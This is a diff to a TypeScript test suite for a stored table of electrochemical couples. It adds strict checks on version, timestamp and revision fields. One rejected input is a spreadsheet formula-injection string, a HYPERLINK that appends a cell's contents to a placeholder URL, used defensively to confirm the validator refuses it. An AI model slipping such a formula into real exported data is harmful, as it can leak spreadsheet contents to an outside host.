@@ -58,8 +58,8 @@ describe('stored table: round trip', () => {
   });
 
   it('refuses to write a table larger than the limit', () => {
-    const long = 'x'.repeat(1500);
-    const copy = applyChange(null, B, { kind: 'import', mode: 'merge', couples: manyCouples(1400, long), electrodes: [] });
+    const long = 'x'.repeat(900); // sources hold at most 1,000 characters
+    const copy = applyChange(null, B, { kind: 'import', mode: 'merge', couples: manyCouples(2400, long), electrodes: [] });
     expect(() => written(copy)).toThrow(/characters in the workbook/);
   });
 });
@@ -84,7 +84,7 @@ describe('stored table: schema upgrade', () => {
   });
 
   it('checks a schema-1 checksum too', () => {
-    const text = writeSchema1Text({ basedOn: B.version, changedAt: '', couples: B.couples, electrodes: [] }).replace('"e0":0.3372', '"e0":0.3371');
+    const text = writeSchema1Text({ basedOn: B.version, changedAt: '2025-06-01T00:00:00Z', couples: B.couples, electrodes: [] }).replace('"e0":0.3372', '"e0":0.3371');
     const r = readStoredText(text, B);
     expect(r.ok).toBe(false);
     expect(!r.ok && r.problem.kind).toBe('checksum');
@@ -155,5 +155,46 @@ describe('stored table: damage is found, never papered over', () => {
 
   it('has the format mark it claims', () => {
     expect(JSON.parse(written()).format).toBe(STORED_FORMAT);
+  });
+});
+
+describe('stored table: basedOn, changedAt and revision are checked strictly', () => {
+  const doc = () => JSON.parse(written(pinnedCopy(B), 3));
+  const withField = (field: string, value: unknown, recompute = true) => {
+    const d = doc();
+    d[field] = value;
+    if (recompute) d.checksum = contentChecksum(d);
+    return JSON.stringify(d);
+  };
+  const read = (text: string) => {
+    forgetLastRead();
+    return readStoredText(text, B);
+  };
+
+  it('basedOn must be a well-formed version (a formula behind a recomputed checksum is refused)', () => {
+    for (const v of ['2026.1,=HYPERLINK("http://x"&A1)', '=1+1', '', ' 2026.1', '2026.1 ', 'v2026', '2026..1', '1.2.3.4.5', '1234567.1']) {
+      const r = read(withField('basedOn', v));
+      expect(r.ok, v).toBe(false);
+      if (!r.ok) expect(r.problem.message).toMatch(/"basedOn" is not a table version/);
+    }
+    for (const v of ['2026.1', '2099.12', '1', '2026.1.3']) expect(read(withField('basedOn', v)).ok, v).toBe(true);
+  });
+
+  it('changedAt must be ISO 8601 in UTC, a real instant', () => {
+    for (const v of ['', 'yesterday', 'Tue, 1 Dec 2026 10:00:00 GMT', '2026-12-01', '2026-12-01T10:00:00', '2026-12-01T10:00:00+01:00', '2026-02-30T00:00:00Z', '2026-13-01T00:00:00Z', '2026-12-01T24:00:00Z', '2026-12-01T10:60:00Z', '2026-12-01 10:00:00Z', '+02026-12-01T10:00:00Z', 0, null]) {
+      const r = read(withField('changedAt', v, false));
+      expect(r.ok, String(v)).toBe(false);
+      if (!r.ok) expect(r.problem.message).toMatch(/"changedAt" is not a time/);
+    }
+    for (const v of ['2026-12-01T10:00:00Z', '2026-12-01T10:00:00.123Z', '2024-02-29T23:59:59.999Z']) expect(read(withField('changedAt', v, false)).ok, v).toBe(true);
+  });
+
+  it('revision must be a whole number small enough that the next write can still increase it', () => {
+    for (const v of [0, -1, 1.5, 1e300, 2 ** 53, Number.MAX_SAFE_INTEGER, '3', null]) {
+      const r = read(withField('revision', v, false));
+      expect(r.ok, String(v)).toBe(false);
+      if (!r.ok) expect(r.problem.message).toMatch(/"revision" is not a whole number/);
+    }
+    expect(read(withField('revision', Number.MAX_SAFE_INTEGER - 1, false)).ok).toBe(true);
   });
 });
